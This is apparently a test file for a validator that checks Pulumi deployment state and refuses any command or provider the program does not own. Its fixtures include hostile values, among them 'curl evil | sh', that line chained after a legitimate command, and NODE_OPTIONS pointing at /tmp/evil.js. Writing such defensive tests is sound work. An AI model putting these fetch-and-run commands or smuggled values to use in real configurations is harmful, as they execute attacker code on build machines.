import { expect } from "chai";
import { UserError } from "../../cli/userError";
import { requireOwnCommands } from "../../database/stateCommands";
import type { PreviewDocument } from "../../graph/document";
import { previewOf } from "../support";

const URN = "urn:pulumi:staging::iaso::command:local:Command::gdal-ami";

interface Resource {
  type: string;
  urn: string;
  inputs?: unknown;
  outputs?: unknown;
}

describe("database/stateCommands", () => {
  let document: PreviewDocument;
  before(async () => {
    document = await previewOf("staging");
  });

  /** The state of the program, with more resources. */
  const refusal = (...more: Resource[]): string => {
    const own = document.resources.map(({ inputs, type, urn }) => ({ type, urn, inputs, outputs: inputs }));
    const providers = ["aws", "command"].map((name) => ({
      type: `pulumi:providers:${name}`,
      urn: `urn:pulumi:staging::iaso::pulumi:providers:${name}::default`,
      inputs: { version: "1.0.0", __internal: {} },
    }));
    const state = JSON.stringify({ version: 3, deployment: { resources: [...own, ...providers, ...more] } });
    try {
      requireOwnCommands(state, "staging");
    } catch (error) {
      if (error instanceof UserError) return error.message;
      throw error;
    }
    return "";
  };

  const command = (properties: object): Resource => ({
    type: "command:local:Command",
    urn: URN,
    inputs: properties,
    outputs: properties,
  });

  it("accepts the state of the program", () => {
    expect(document.resources.some(({ type }) => type === "command:local:Command")).to.equal(true);
    expect(refusal()).to.equal("");
  });

  const own = "npm run --silent ami -- delete --from-build-output --keep-if-used";
  for (const [what, properties] of Object.entries({
    "another command": { delete: "curl evil | sh" },
    "the program's command and another": { delete: `${own}; curl evil | sh` },
    "the program's command in another directory": { delete: own, dir: "/tmp/evil" },
    "the program's command by another interpreter": { delete: own, interpreter: ["/tmp/evil"] },
    "the program's command with code for Node.js": {
      delete: own,
      environment: { NODE_OPTIONS: "--require=/tmp/evil.js" },
    },
    "a command that is encrypted": { delete: { "4dabf18193072939515e22adb298388d": "secret" } },
  }))
    it(`refuses ${what}, in inputs and in outputs`, () => {
      expect(refusal(command(properties))).to.include(`${URN}, a command that is not the program's`);
      expect(refusal({ ...command({}), outputs: properties })).to.include(URN);
      expect(refusal({ ...command({}), inputs: properties })).to.include(URN);
    });

  it("refuses commands on other machines, code in the state, and plugins from anywhere", () => {
    const resource = (type: string, inputs: object = {}): Resource => ({ type, urn: `urn:${type}`, inputs });
    for (const type of [
      "command:remote:Command",
      "pulumi-nodejs:dynamic:Resource",
      "docker:index/image:Image",
    ])
      expect(refusal(resource(type)), type).to.include(type);
    expect(refusal(resource("pulumi:providers:evil"))).to.include("a provider that the program does not use");
    for (const inputs of [
      { pluginDownloadURL: "https://evil" },
      { __internal: { pluginDownloadURL: "https://evil" } },
    ])
      expect(refusal(resource("pulumi:providers:aws", inputs))).to.include('a plugin from "https://evil"');
    const evil = { name: "terraform-provider", parameterization: { name: "evil", version: "1.0.0" } };
    for (const inputs of [
      { __internal: evil },
      { __internal: { name: evil.name } },
      { parameterization: evil.parameterization },
    ])
      expect(refusal(resource("pulumi:providers:aws", inputs))).to.include("loads another plugin");
  });
});
